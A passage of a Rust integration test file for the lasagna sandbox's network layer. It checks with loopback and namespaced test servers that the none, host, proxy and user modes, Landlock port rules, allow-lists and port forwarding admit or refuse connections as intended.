//! The network layer: `none` keeps the host's loopback out of reach, `host` lets it in while
//! Landlock's ports still hold, `proxy` lets through only its allow-list (and logs each
//! decision), `user` reaches a stand-in for the outside world through pasta but not the
//! host's loopback; bad input names file, line and column.

mod common;
use common::*;

use std::net::TcpListener;
use std::os::unix::process::CommandExt;
use std::process::{Command, Output};

/// A listener on the host's 127.0.0.1 (a random port), accepting in the background.
fn listener() -> u16 {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    std::thread::spawn(move || {
        // Bounded: a test makes a handful of connections at most.
        for s in l.incoming().take(16) {
            drop(s);
        }
    });
    port
}

fn connect(port: u16) -> String {
    format!("exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected || echo refused")
}

both!(
    net_none_keeps_the_host_loopback_out_and_host_lets_it_in,
    |who| {
        let port = listener();
        let script = connect(port);
        let cmd = ["/bin/bash", "-c", script.as_str()];
        // Landlock's TCP rules off in both runs: the network layer's own effect.
        let c = Contrast::of(
            who,
            &["-p", "strict", "--without", "landlock", "--net", "none"],
            &["-p", "strict", "--without", "landlock", "--net", "host"],
            &cmd,
        );
        c.prints("refused\n", "connected\n");
        // The profile's own section does the same as the flag.
        let dir = Scratch::new("net");
        let p = dir.write(
            "host.yaml",
            "extends: strict\nlayers:\n  network:\n    net: host\n  landlock:\n    mode: off\n",
        );
        let o = run(who, &["run", "-p", &p, "--", "/bin/bash", "-c", &script]);
        assert_code(&o, 0);
        assert_eq!(stdout(&o), "connected\n");
    }
);

both!(net_host_still_obeys_landlock_ports, |who| {
    let (open, closed) = (listener(), listener());
    let dir = Scratch::new("net-ll");
    let p = dir.write(
        "p.yaml",
        &format!("extends: strict\nlayers:\n  network:\n    net: host\n  landlock:\n    net:\n      connect: [{open}]\n"),
    );
    let o = run(
        who,
        &[
            "run",
            "-p",
            &p,
            "--",
            "/bin/bash",
            "-c",
            &format!("{}; {}", connect(open), connect(closed)),
        ],
    );
    assert_code(&o, 0);
    assert_eq!(stdout(&o), "connected\nrefused\n", "{}", stderr(&o));
    // Control: without Landlock the second port is reachable too.
    let o = run(
        who,
        &[
            "run",
            "-p",
            &p,
            "--without",
            "landlock",
            "--",
            "/bin/bash",
            "-c",
            &connect(closed),
        ],
    );
    assert_eq!(stdout(&o), "connected\n");
    // explain says what host mode exposes.
    let text = stdout(&run(who, &["explain", &p]));
    assert!(
        text.contains("does NOT stop: connecting to the host's loopback services"),
        "{text}"
    );
});

both!(bad_network_input_names_the_place, |who| {
    let dir = Scratch::new("net-bad");
    for (yaml, want) in [
        (
            "layers:\n  network:\n    net: hots\n",
            "3:10: unknown net \"hots\" (did you mean \"host\"?)",
        ),
        (
            "layers:\n  network:\n    allow: [\"example.com:0\"]\n",
            "port 0 is not a port",
        ),
        (
            "layers:\n  network:\n    allow: [\"example.com:70000\"]\n",
            "port 70000 is above 65535",
        ),
        (
            "layers:\n  network:\n    allow: [\"example.com:90-80\"]\n",
            "3:13: allow: \"example.com:90-80\": the port range 90-80 is empty",
        ),
        (
            "layers:\n  network:\n    allow: [\"exa mple.com:80\"]\n",
            "is not a host name",
        ),
        (
            "layers:\n  network:\n    net: host\n    allow: [\"example.com:443\"]\n",
            "4:13: allow: entries are the proxy's, and net is host",
        ),
        (
            "layers:\n  network:\n    proxy-port: 8080\n",
            "3:17: proxy-port applies to net: proxy",
        ),
        (
            "layers:\n  network:\n    net: proxy\n    proxy-port: 0\n",
            "4:17: proxy-port: port 0 is not a port",
        ),
        (
            "layers:\n  network:\n    net: proxy\n    forward: [\"8080\"]\n",
            "forward applies to net: user",
        ),
        ("layers:\n  network:\n    nett: none\n", "unknown field"),
    ] {
        let p = dir.write("bad.yaml", yaml);
        let o = run(who, &["check", &p]);
        assert_ne!(o.status.code(), Some(0), "{yaml}");
        let err = stderr(&o) + &stdout(&o);
        assert!(err.contains(want), "{yaml}: {err}");
        assert!(err.contains("bad.yaml"), "{err}");
    }
    for (args, want) in [
        (&["--allow", "example.com:0"][..], "port 0 is not a port"),
        (
            &["--net", "host", "--allow", "example.com:443"],
            "--allow is the proxy's allow-list, and --net is host",
        ),
        (&["--net", "nope"], "unknown net"),
    ] {
        let mut argv = vec!["run", "-p", "strict"];
        argv.extend_from_slice(args);
        argv.extend_from_slice(&["--", "/bin/true"]);
        let o = run(who, &argv);
        assert_code(&o, 2);
        assert!(stderr(&o).contains(want), "{args:?}: {}", stderr(&o));
    }
});

fn connections(report: &serde_json::Value) -> Vec<(bool, String, String, u64, u64)> {
    report["connections"]
        .as_array()
        .map(|a| {
            a.iter()
                .map(|c| {
                    (
                        c["allowed"].as_bool().unwrap(),
                        c["protocol"].as_str().unwrap().to_string(),
                        format!("{}:{}", c["host"].as_str().unwrap(), c["port"]),
                        c["bytes_in"].as_u64().unwrap(),
                        c["bytes_out"].as_u64().unwrap(),
                    )
                })
                .collect()
        })
        .unwrap_or_default()
}

both!(proxy_lets_through_only_the_allow_list, |who| {
    let (allowed, other) = (http_server(), http_server());
    let dir = Scratch::new("net-proxy");
    let report = dir.for_anyone("r.json");
    let report = report.as_str();
    // curl reads HTTP_PROXY; -p tunnels through CONNECT; the last line ignores the proxy.
    let script = format!(
        "curl -sS -m 10 http://localhost:{allowed}/; \
         curl -sS -m 10 -o /dev/null -w '%{{http_code}}\\n' http://localhost:{other}/; \
         curl -sS -m 10 -p http://localhost:{allowed}/; \
         (exec 3<>/dev/tcp/127.0.0.1/{allowed}) 2>/dev/null && echo direct || echo no-direct"
    );
    let allow = format!("localhost:{allowed}");
    let o = run(
        who,
        &[
            "run",
            "-p",
            "strict",
            "--allow",
            &allow,
            "--report",
            report,
            "-v",
            "--",
            "/bin/bash",
            "-c",
            &script,
        ],
    );
    assert_code(&o, 0);
    assert_eq!(
        stdout(&o),
        format!("body {allowed}\n403\nbody {allowed}\nno-direct\n"),
        "{}",
        stderr(&o)
    );
    // -v: one line per decision, as each connection ends.
    let err = stderr(&o);
    assert!(
        err.contains(&format!(
            "lasagna: network: allowed HTTP localhost:{allowed} (127.0.0.1:{allowed})"
        )),
        "{err}"
    );
    assert!(err.contains(&format!("lasagna: network: denied HTTP localhost:{other}: localhost:{other} is not on the allow-list")), "{err}");
    assert!(
        err.contains(&format!(
            "lasagna: network: allowed CONNECT localhost:{allowed}"
        )),
        "{err}"
    );
    // The report lists each decision with its bytes.
    let r: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(report).unwrap()).unwrap();
    let c = connections(&r);
    assert_eq!(c.len(), 3, "{c:?}");
    let find =
        |proto: &str, target: &str| c.iter().find(|x| x.1 == proto && x.2 == target).cloned();
    let http = find("http", &format!("localhost:{allowed}")).expect("the allowed HTTP request");
    assert!(http.0 && http.3 > 0 && http.4 > 0, "{http:?}");
    let denied = find("http", &format!("localhost:{other}")).expect("the denied request");
    assert!(!denied.0 && denied.3 == 0, "{denied:?}");
    let tunnel = find("connect", &format!("localhost:{allowed}")).expect("the CONNECT tunnel");
    assert!(tunnel.0 && tunnel.3 > 0, "{tunnel:?}");
    assert_eq!(
        layer_of(&r, "network")["observed"],
        "proxy: 3 connections, 2 allowed, 1 denied"
    );
    // The namespace alone refuses the direct connection (Landlock's TCP rules off), and the
    // control with the host's network makes it.
    let direct = format!(
        "(exec 3<>/dev/tcp/127.0.0.1/{allowed}) 2>/dev/null && echo direct || echo no-direct"
    );
    let c = Contrast::of(
        who,
        &["-p", "strict", "--without", "landlock", "--allow", &allow],
        &["-p", "strict", "--without", "landlock", "--net", "host"],
        &["/bin/bash", "-c", &direct],
    );
    c.prints("no-direct\n", "direct\n");
});

both!(proxy_wildcards_match_names_below_the_domain_only, |who| {
    let port = http_server();
    let allow = format!("*.w.localhost:{port}");
    // SOCKS5 (curl resolves nothing itself with socks5h) and HTTP.
    let script = format!(
        "for h in a.w.localhost b.c.w.localhost w.localhost xw.localhost; do \
           printf '%s ' $h; curl -sS -m 10 -o /dev/null -w '%{{http_code}}\\n' http://$h:{port}/; done; \
         curl -sS -m 10 --socks5-hostname 127.0.0.1:3128 http://a.w.localhost:{port}/; \
         curl -sS -m 10 --socks5-hostname 127.0.0.1:3128 http://w.localhost:{port}/ 2>/dev/null || echo socks-refused"
    );
    let o = run(
        who,
        &[
            "run",
            "-p",
            "strict",
            "--allow",
            &allow,
            "--",
            "/bin/bash",
            "-c",
            &script,
        ],
    );
    assert_code(&o, 0);
    assert_eq!(
        stdout(&o),
        format!("a.w.localhost 200\nb.c.w.localhost 200\nw.localhost 403\nxw.localhost 403\nbody {port}\nsocks-refused\n"),
        "{}",
        stderr(&o)
    );
    // An address entry covers the address, whatever name leads to it; another port is out.
    let allow = format!("127.0.0.1:{port}");
    let script = format!(
        "curl -sS -m 10 http://127.0.0.1:{port}/; curl -sS -m 10 -o /dev/null -w '%{{http_code}}\\n' http://127.0.0.2:{port}/"
    );
    let o = run(
        who,
        &[
            "run",
            "-p",
            "strict",
            "--allow",
            &allow,
            "--",
            "/bin/bash",
            "-c",
            &script,
        ],
    );
    assert_eq!(stdout(&o), format!("body {port}\n403\n"), "{}", stderr(&o));
});

both!(proxy_mode_in_a_profile_and_explain, |who| {
    let port = http_server();
    let dir = Scratch::new("net-prof");
    let p = dir.write(
        "p.yaml",
        &format!("extends: strict\nlayers:\n  network:\n    allow:\n      - localhost:{port}\n    proxy-port: 8899\n"),
    );
    let o = run(
        who,
        &[
            "run",
            "-p",
            &p,
            "--",
            "/bin/sh",
            "-c",
            "echo $HTTP_PROXY; curl -sS -m 10 http://localhost:$0/",
            &port.to_string(),
        ],
    );
    assert_code(&o, 0);
    assert_eq!(
        stdout(&o),
        format!("http://127.0.0.1:8899\nbody {port}\n"),
        "{}",
        stderr(&o)
    );
    let text = stdout(&run(who, &["explain", &p]));
    assert!(text.contains("net: proxy"), "{text}");
    assert!(text.contains(&format!("allow: localhost:{port}")), "{text}");
    // Landlock's TCP rules let the payload reach the proxy's port, and only it.
    assert!(
        text.contains("note: net: connect to port 8899 (the proxy) is allowed"),
        "{text}"
    );
    assert!(
        text.contains("tcp connect allowed to ports 8899;"),
        "{text}"
    );
});

/// A stand-in for the outside world: a network namespace with one end of a veth pair and an
/// HTTP server on its address, reachable from the host's namespace only. Removed on drop.
///
/// `behind` puts the other end in a second namespace of the test's own instead of the
/// host's: a "host" whose default route is the stand-in and whose loopback serves
/// something else, so that the gateway address a sandbox sees is an address the test owns.
struct StandIn {
    netns: String,
    veth: String,
    /// The namespace holding the other end, when it is not the host's.
    host: Option<String>,
    servers: Vec<Spawned>,
    addr: String,
    /// The address of the other end.
    host_addr: String,
}

/// An HTTP server on `addr:port` in `netns` answering `answer` to at most 8 requests, for
/// at most 90 s.
fn serve(netns: &str, addr: &str, port: u16, answer: &str) -> Spawned {
    let len = answer.len() + 1;
    let py = format!(
        "import socket\n\
         s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n\
         s.bind(('{addr}', {port})); s.listen(8); print('ready', flush=True)\n\
         s.settimeout(60)\n\
         for _ in range(8):\n\
         \x20   c, _ = s.accept(); c.settimeout(10); c.recv(4096)\n\
         \x20   c.sendall(b'HTTP/1.0 200 OK\\r\\nContent-Length: {len}\\r\\n\\r\\n{answer}\\n'); c.close()\n"
    );
    let mut cmd = Command::new("timeout");
    cmd.args(["90", "ip", "netns", "exec", netns, "python3", "-c", &py])
        .stdout(std::process::Stdio::piped())
        .process_group(0);
    let mut server = Spawned::new(&mut cmd);
    let mut line = String::new();
    let out = server.child().stdout.take().unwrap();
    std::io::BufRead::read_line(&mut std::io::BufReader::new(out), &mut line).unwrap();
    assert_eq!(
        line, "ready\n",
        "the server on {addr}:{port} in {netns} did not start"
    );
    server
}

impl StandIn {
    /// `slot`: one per test, so that tests running at once never share a namespace, a
    /// veth name or a subnet.
    fn new(who: As, slot: u8) -> StandIn {
        StandIn::make(who, false, slot)
    }

    /// A stand-in behind a "host" namespace (see the type).
    fn behind_a_host(who: As, slot: u8) -> StandIn {
        StandIn::make(who, true, slot)
    }

    fn make(who: As, behind: bool, slot: u8) -> StandIn {
        let n = std::process::id() % 10000;
        let (tag, net) = match (who, behind) {
            (As::Root, false) => ("r", 11),
            (As::User, false) => ("u", 12),
            (As::Root, true) => ("gr", 13),
            (As::User, true) => ("gu", 14),
        };
        let (tag, net) = (format!("{tag}{slot}"), net + 4 * slot);
        let netns = format!("lsg-{n}-{tag}");
        let veth = format!("lsg{n}{tag}");
        let host = behind.then(|| format!("lsg-{n}-{tag}h"));
        let addr = format!("10.199.{net}.2");
        let host_addr = format!("10.199.{net}.1");
        let ip = |args: &[&str]| {
            let o = Command::new("ip").args(args).output().expect("ip");
            assert!(
                o.status.success(),
                "ip {args:?}: {}",
                String::from_utf8_lossy(&o.stderr)
            );
        };
        for ns in [Some(&netns), host.as_ref()].into_iter().flatten() {
            let _ = Command::new("ip").args(["netns", "del", ns]).output();
        }
        let _ = Command::new("ip").args(["link", "del", &veth]).output();
        let mut s = StandIn {
            netns: netns.clone(),
            veth: veth.clone(),
            host: host.clone(),
            servers: Vec::new(),
            addr: addr.clone(),
            host_addr: host_addr.clone(),
        };
        ip(&["netns", "add", &netns]);
        ip(&[
            "link",
            "add",
            &veth,
            "type",
            "veth",
            "peer",
            "name",
            &format!("{veth}p"),
        ]);
        ip(&["link", "set", &format!("{veth}p"), "netns", &netns]);
        // The near end's commands: in the host's namespace, or in `host`.
        let near = |args: &[&str]| {
            let mut all: Vec<&str> = Vec::new();
            if let Some(h) = &host {
                all.extend(["-n", h]);
            }
            all.extend_from_slice(args);
            ip(&all);
        };
        if let Some(h) = &host {
            ip(&["netns", "add", h]);
            ip(&["link", "set", &veth, "netns", h]);
            near(&["link", "set", "lo", "up"]);
        }
        near(&["addr", "add", &format!("{host_addr}/30"), "dev", &veth]);
        near(&["link", "set", &veth, "up"]);
        if host.is_some() {
            near(&["route", "add", "default", "via", &addr]);
        }
        ip(&[
            "-n",
            &netns,
            "addr",
            "add",
            &format!("{addr}/30"),
            "dev",
            &format!("{veth}p"),
        ]);
        ip(&["-n", &netns, "link", "set", &format!("{veth}p"), "up"]);
        s.servers.push(serve(&netns, &addr, 8000, "stand-in"));
        if let Some(h) = &host {
            // The "host"'s own service, on its loopback and its address alike.
            s.servers.push(serve(h, "0.0.0.0", 8000, "host-service"));
        }
        s
    }

    /// `lasagna ARGS` as `who`, in the "host" namespace.
    fn lasagna_in_host(&self, who: As, args: &[&str]) -> Command {
        let host = self.host.as_deref().expect("a stand-in behind a host");
        let bin = bin();
        let mut argv: Vec<String> = ["ip", "netns", "exec", host]
            .iter()
            .map(|s| s.to_string())
            .collect();
        if who == As::User {
            let (uid, gid) = test_user().expect("test user");
            argv.extend([
                "setpriv".to_string(),
                format!("--reuid={uid}"),
                format!("--regid={gid}"),
                "--clear-groups".to_string(),
                "--".to_string(),
            ]);
        }
        argv.push(bin);
        argv.extend(args.iter().map(|s| s.to_string()));
        let argv: Vec<&str> = argv.iter().map(String::as_str).collect();
        as_who(As::Root, &argv)
    }
}

impl Drop for StandIn {
    fn drop(&mut self) {
        self.servers.clear();
        for ns in [Some(&self.netns), self.host.as_ref()]
            .into_iter()
            .flatten()
        {
            let _ = Command::new("ip").args(["netns", "del", ns]).output();
        }
        let _ = Command::new("ip")
            .args(["link", "del", &self.veth])
            .output();
    }
}

both!(
    net_user_reaches_the_outside_but_not_the_host_loopback,
    |who| {
        if !nix::unistd::geteuid().is_root() {
            return skip(
                "net_user_reaches_the_outside_but_not_the_host_loopback",
                "the stand-in's namespace needs root",
            );
        }
        let stand_in = StandIn::new(who, 0);
        let host_port = http_server();
        let dir = Scratch::new("net-user");
        let p = dir.write(
        "p.yaml",
        &format!("extends: strict\nlayers:\n  network:\n    net: user\n  landlock:\n    net:\n      connect: [8000, {host_port}]\n"),
    );
        let script = format!(
            "grep -o '^ *[a-z0-9]*:' /proc/net/dev | tr -d ' :' | sort | tr '\\n' ' '; echo; \
         curl -sS -m 10 http://{}:8000/; \
         curl -sS -m 5 http://127.0.0.1:{host_port}/ 2>/dev/null || echo host-loopback-refused",
            stand_in.addr
        );
        let o = run(who, &["run", "-p", &p, "--", "/bin/bash", "-c", &script]);
        assert_code(&o, 0);
        assert_eq!(
            stdout(&o),
            "eth0 lo \nstand-in\nhost-loopback-refused\n",
            "{}",
            stderr(&o)
        );
        // Control: net none has no way to the stand-in.
        let o = run(
            who,
            &[
                "run",
                "-p",
                &p,
                "--net",
                "none",
                "--",
                "/bin/bash",
                "-c",
                &format!(
                    "curl -sS -m 5 http://{}:8000/ 2>/dev/null || echo unreachable",
                    stand_in.addr
                ),
            ],
        );
        assert_eq!(stdout(&o), "unreachable\n", "{}", stderr(&o));
    }
);

both!(
    net_user_gateway_and_host_addresses_are_not_the_host,
    |who| {
        if !nix::unistd::geteuid().is_root() {
            return skip(
                "net_user_gateway_and_host_addresses_are_not_the_host",
                "the test's host and stand-in namespaces need root",
            );
        }
        // lasagna runs in a "host" namespace of the test's own whose default route is the
        // stand-in: pasta gives the sandbox that gateway address. By default pasta maps the
        // gateway address to the host's loopback; lasagna's --no-map-gw keeps it the gateway.
        let net = StandIn::behind_a_host(who, 0);
        let host = net.host.clone().unwrap();
        // Control: the host's service answers on the host's loopback and address, and the
        // stand-in on the gateway address, seen from the host.
        for (addr, answer) in [
            ("127.0.0.1", "host-service"),
            (net.host_addr.as_str(), "host-service"),
            (net.addr.as_str(), "stand-in"),
        ] {
            let o = output_within(
                as_who(
                    As::Root,
                    &[
                        "ip",
                        "netns",
                        "exec",
                        &host,
                        "curl",
                        "-sS",
                        "-m",
                        "10",
                        &format!("http://{addr}:8000/"),
                    ],
                ),
                DEADLINE,
            );
            assert_eq!(stdout(&o), format!("{answer}\n"), "from the host, {addr}");
        }
        let dir = Scratch::new("net-gw");
        let p = dir.write(
        "p.yaml",
        "extends: strict\nlayers:\n  network:\n    net: user\n  landlock:\n    net:\n      connect: [8000]\n",
    );
        let try_ = |addr: &str| {
            format!("curl -sS -m 5 http://{addr}:8000/ 2>/dev/null || echo '{addr} refused'; ")
        };
        let script = format!(
            "ip -4 route show default | cut -d' ' -f1-3; {}{}{}",
            try_(&net.addr),
            try_("127.0.0.1"),
            try_(&net.host_addr),
        );
        let o = output_within(
            net.lasagna_in_host(who, &["run", "-p", &p, "--", "/bin/bash", "-c", &script]),
            DEADLINE,
        );
        assert_code(&o, 0);
        assert_eq!(
            stdout(&o),
            format!(
                "default via {gw}\nstand-in\n127.0.0.1 refused\n{h} refused\n",
                gw = net.addr,
                h = net.host_addr
            ),
            "{}",
            stderr(&o)
        );
    }
);

both!(net_user_forwards_inbound_only_as_listed, |who| {
    // A free port on the host's loopback for the forward (picked, then released).
    let host_port = TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let dir = Scratch::new("net-fwd");
    let p = dir.write(
        "p.yaml",
        &format!("extends: strict\nlayers:\n  network:\n    net: user\n    forward: [\"{host_port}:8555\"]\n  landlock:\n    net:\n      bind: [8555, 8556]\n"),
    );
    let explained = stdout(&run(who, &["explain", &p]));
    assert!(
        explained.contains(&format!(
            "inbound: the host's 127.0.0.1:{host_port} reaches port 8555 inside"
        )),
        "{explained}"
    );
    // Inside: a server on the forwarded port, and one on a port nobody forwards.
    let server = "import socket, sys\n\
        a = socket.socket(); a.bind(('0.0.0.0', 8555)); a.listen(1)\n\
        b = socket.socket(); b.bind(('0.0.0.0', 8556)); b.listen(1)\n\
        a.settimeout(30); c, _ = a.accept(); c.sendall(b'inside\\n'); c.close()\n\
        import time; time.sleep(3)\n";
    let mut sandbox = spawn(who, &["run", "-p", &p, "--", "python3", "-c", server]);
    let mut got = String::new();
    wait_until(
        "the forwarded port answers",
        std::time::Duration::from_secs(20),
        || {
            use std::io::Read;
            let Ok(mut s) = std::net::TcpStream::connect(("127.0.0.1", host_port)) else {
                return false;
            };
            let _ = s.set_read_timeout(Some(std::time::Duration::from_secs(5)));
            got.clear();
            s.read_to_string(&mut got).is_ok() && !got.is_empty()
        },
    );
    assert_eq!(got, "inside\n");
    // pasta's default (`-t auto`) would forward every port bound inside; 8556 is not listed.
    assert!(
        std::net::TcpStream::connect(("127.0.0.1", 8556)).is_err(),
        "an unlisted port inside is reachable from the host"
    );
    let status = sandbox.wait_within(DEADLINE);
    assert!(status.success(), "{status:?}");
});

/// A UDP server on `addr:port` in `netns`, for at most 32 datagrams or 60 s without one:
/// `echo` answers `echo DATAGRAM`; an address answers DNS, that address for an A question
/// (any name) and no record for any other.
fn serve_udp(netns: &str, addr: &str, port: u16, answer: &str) -> Spawned {
    const SERVER: &str = r#"
import socket, sys
addr, port, answer = sys.argv[1], int(sys.argv[2]), sys.argv[3]
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind((addr, port)); print('ready', flush=True)
s.settimeout(60)
for _ in range(32):
    try:
        q, peer = s.recvfrom(512)
    except socket.timeout:
        break
    if answer == 'echo':
        s.sendto(b'echo ' + q, peer)
        continue
    i = 12
    while i < len(q) and q[i]:
        i += 1 + q[i]
    question, qtype = q[12:i + 5], q[i + 1:i + 3]
    if qtype == b'\x00\x01':
        rr = b'\xc0\x0c\x00\x01\x00\x01\x00\x00\x00\x3c\x00\x04' + socket.inet_aton(answer)
        s.sendto(q[:2] + b'\x81\x80\x00\x01\x00\x01\x00\x00\x00\x00' + question + rr, peer)
    else:
        s.sendto(q[:2] + b'\x81\x80\x00\x01\x00\x00\x00\x00\x00\x00' + question, peer)
"#;
    let port = port.to_string();
    let mut cmd = Command::new("timeout");
    cmd.args(["90", "ip", "netns", "exec", netns, "python3", "-c", SERVER])
        .args([addr, port.as_str(), answer])
        .stdout(std::process::Stdio::piped())
        .process_group(0);
    let mut server = Spawned::new(&mut cmd);
    let mut line = String::new();
    let out = server.child().stdout.take().unwrap();
    std::io::BufRead::read_line(&mut std::io::BufReader::new(out), &mut line).unwrap();
    assert_eq!(
        line, "ready\n",
        "the UDP server on {addr}:{port} in {netns} did not start"
    );
    server
}

both!(net_user_carries_udp_out_and_its_answer_back, |who| {
    if !nix::unistd::geteuid().is_root() {
        return skip(
            "net_user_carries_udp_out_and_its_answer_back",
            "the stand-in's namespace needs root",
        );
    }
    let mut stand_in = StandIn::new(who, 1);
    let echo = serve_udp(&stand_in.netns, &stand_in.addr, 7007, "echo");
    stand_in.servers.push(echo);
    let m = marker("udp", who);
    // One datagram to the stand-in, and its answer awaited 5 s at most.
    let client = format!(
        "import socket\n\
         s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)\n\
         try:\n\
         \x20   s.sendto(b'{m}', ('{}', 7007)); print(s.recv(512).decode())\n\
         except OSError as e:\n\
         \x20   print('no-answer:', e.strerror or 'timed out')\n",
        stand_in.addr
    );
    // Control: net none has no route to the stand-in, so the same send fails.
    let c = Contrast::of(
        who,
        &["-p", "strict", "--net", "none"],
        &["-p", "strict", "--net", "user"],
        &["python3", "-c", &client],
    );
    c.prints(
        "no-answer: Network is unreachable\n",
        &format!("echo {m}\n"),
    );
});

/// `lasagna ARGS` as `who` in the "host" namespace of `net`, whose /etc/resolv.conf is
/// `resolv` (a private mount namespace: the host's own file is left alone).
fn lasagna_in_host_with_resolver(net: &StandIn, who: As, resolv: &str, args: &[&str]) -> Output {
    let lasagna = net.lasagna_in_host(who, args);
    let mut cmd = Command::new("unshare");
    cmd.args([
        "-m",
        "--propagation",
        "private",
        "--",
        "/bin/sh",
        "-c",
        "mount --bind \"$0\" /etc/resolv.conf && exec \"$@\"",
        resolv,
    ])
    .arg(lasagna.get_program())
    .args(lasagna.get_args())
    .current_dir("/")
    .stdin(std::process::Stdio::null())
    .process_group(0);
    output_within(cmd, DEADLINE)
}

both!(
    net_user_resolves_through_the_hosts_resolver_not_a_loopback_one,
    |who| {
        if !nix::unistd::geteuid().is_root() {
            return skip(
                "net_user_resolves_through_the_hosts_resolver_not_a_loopback_one",
                "the test's host and stand-in namespaces need root",
            );
        }
        // pasta writes no resolver inside: the profile binds the host's /etc/resolv.conf, and
        // the queries go where it says, through pasta. lasagna runs in a "host" namespace of
        // the test's own; its resolver is the stand-in, which names probe.test as itself, or
        // one on the host's loopback, which names it as the host.
        let mut net = StandIn::behind_a_host(who, 2);
        let host = net.host.clone().unwrap();
        let outside = serve_udp(&net.netns, &net.addr, 53, &net.addr);
        let on_loopback = serve_udp(&host, "127.0.0.1", 53, &net.host_addr);
        net.servers.extend([outside, on_loopback]);
        let dir = Scratch::new("net-dns");
        let options = "options timeout:2 attempts:1\n";
        let to_outside = dir.write(
            "outside.conf",
            &format!("nameserver {}\n{options}", net.addr),
        );
        let to_loopback = dir.write("loopback.conf", &format!("nameserver 127.0.0.1\n{options}"));
        let p = dir.write(
        "p.yaml",
        "extends: strict\nlayers:\n  network:\n    net: user\n  filesystem:\n    mounts:\n      - ro-bind: /etc/resolv.conf\n",
    );
        let lookup = |resolv: &str, extra: &[&str]| {
            let mut args = vec!["run", "-p", &p];
            args.extend_from_slice(extra);
            args.extend([
            "--",
            "/bin/sh",
            "-c",
            "cat /etc/resolv.conf | head -n1; getent ahostsv4 probe.test | awk 'NR == 1 { print $1 } END { if (NR == 0) print \"unresolved\" }'",
        ]);
            let o = lasagna_in_host_with_resolver(&net, who, resolv, &args);
            assert_code(&o, 0);
            stdout(&o)
        };
        // The host's resolver answers through pasta; net none has no way to it.
        assert_eq!(
            lookup(&to_outside, &[]),
            format!("nameserver {a}\n{a}\n", a = net.addr)
        );
        assert_eq!(
            lookup(&to_outside, &["--net", "none"]),
            format!("nameserver {}\nunresolved\n", net.addr)
        );
        // A resolver on the host's loopback is not reachable (no namespace-to-host forwards);
        // control: with the host's network the same lookup gets its answer.
        assert_eq!(
            lookup(&to_loopback, &[]),
            "nameserver 127.0.0.1\nunresolved\n"
        );
        assert_eq!(
            lookup(&to_loopback, &["--net", "host"]),
            format!("nameserver 127.0.0.1\n{}\n", net.host_addr)
        );
    }
);

/// A TCP port outside the kernel's ephemeral range that nothing listens on now, a
/// different one on each call.
fn free_non_ephemeral_port() -> u16 {
    use std::sync::atomic::{AtomicU16, Ordering};
    static NEXT: AtomicU16 = AtomicU16::new(0);
    let range = std::fs::read_to_string("/proc/sys/net/ipv4/ip_local_port_range").unwrap();
    let bounds: Vec<u16> = range
        .split_whitespace()
        .map(|n| n.parse().unwrap())
        .collect();
    let base = 20000 + (std::process::id() % 8000) as u16;
    for _ in 0..256 {
        let port = base + NEXT.fetch_add(1, Ordering::SeqCst);
        let ephemeral = (bounds[0]..=bounds[1]).contains(&port);
        if !ephemeral && TcpListener::bind(("0.0.0.0", port)).is_ok() {
            return port;
        }
    }
    panic!("no free port from {base} on outside the ephemeral range {range}");
}

/// The first line `child` writes on stdout, waiting `limit` at most.
fn first_line_within(child: &mut Spawned, limit: std::time::Duration) -> String {
    let out = child.child().stdout.take().expect("stdout piped");
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let mut line = String::new();
        let _ = std::io::BufRead::read_line(&mut std::io::BufReader::new(out), &mut line);
        let _ = tx.send(line);
    });
    rx.recv_timeout(limit)
        .unwrap_or_else(|_| panic!("no line on stdout within {limit:?}"))
}

both!(
    net_user_leaves_an_unlisted_inbound_port_unreachable,
    |who| {
        use std::io::Read;
        use std::time::{Duration, Instant};
        // A port free on the host (picked, then released), listened on inside. Outside the
        // ephemeral range, so that no pasta forwarding rule leaves it out as ephemeral.
        let port = free_non_ephemeral_port();
        let dir = Scratch::new("net-unlisted");
        let profile = |forward: &str| {
            format!("extends: strict\nlayers:\n  network:\n    net: user\n{forward}  landlock:\n    net:\n      bind: [{port}]\n")
        };
        let unlisted = dir.write("unlisted.yaml", &profile(""));
        let listed = dir.write(
            "listed.yaml",
            &profile(&format!("    forward: [\"{port}:{port}\"]\n")),
        );
        // Inside: a server on the port, answering `inside`, until its stdin closes.
        let server = format!(
            "import select, socket, sys\n\
         s = socket.socket(); s.bind(('0.0.0.0', {port})); s.listen(8)\n\
         print('listening', flush=True)\n\
         while True:\n\
         \x20   r, _, _ = select.select([s, sys.stdin], [], [], 60)\n\
         \x20   if s not in r: break\n\
         \x20   c, _ = s.accept(); c.sendall(b'inside\\n'); c.close()\n"
        );
        let start = |p: &str| {
            let mut cmd = command(who, &["run", "-p", p, "--", "python3", "-c", &server]);
            cmd.stdin(std::process::Stdio::piped())
                .stdout(std::process::Stdio::piped())
                .stderr(std::process::Stdio::piped());
            let mut sandbox = Spawned::new(&mut cmd);
            let line = first_line_within(&mut sandbox, Duration::from_secs(30));
            assert_eq!(line, "listening\n", "the server inside did not start");
            sandbox
        };
        let answer = || {
            let mut s = std::net::TcpStream::connect_timeout(
                &(std::net::Ipv4Addr::LOCALHOST, port).into(),
                Duration::from_secs(1),
            )
            .ok()?;
            let _ = s.set_read_timeout(Some(Duration::from_secs(5)));
            let mut got = String::new();
            let _ = s.read_to_string(&mut got);
            Some(got)
        };
        let stop = |mut sandbox: Spawned| {
            drop(sandbox.child().stdin.take());
            let status = sandbox.wait_within(DEADLINE);
            assert!(status.success(), "{status:?}");
        };
        // Unlisted: pasta's `-t auto` would notice the listener within about a second and
        // forward the port, so the host keeps trying for 4 s and never gets through. (Some
        // pasta builds scan nothing when `-T none` is given as well; there `auto` and
        // `none` look alike.)
        let sandbox = start(&unlisted);
        let until = Instant::now() + Duration::from_secs(4);
        while Instant::now() < until {
            if let Some(got) = answer() {
                panic!("an unlisted port inside is reachable from the host: {got:?}");
            }
            std::thread::sleep(Duration::from_millis(50));
        }
        stop(sandbox);
        // Control: the same server, its port listed, answers on the host's loopback.
        let sandbox = start(&listed);
        let mut got = None;
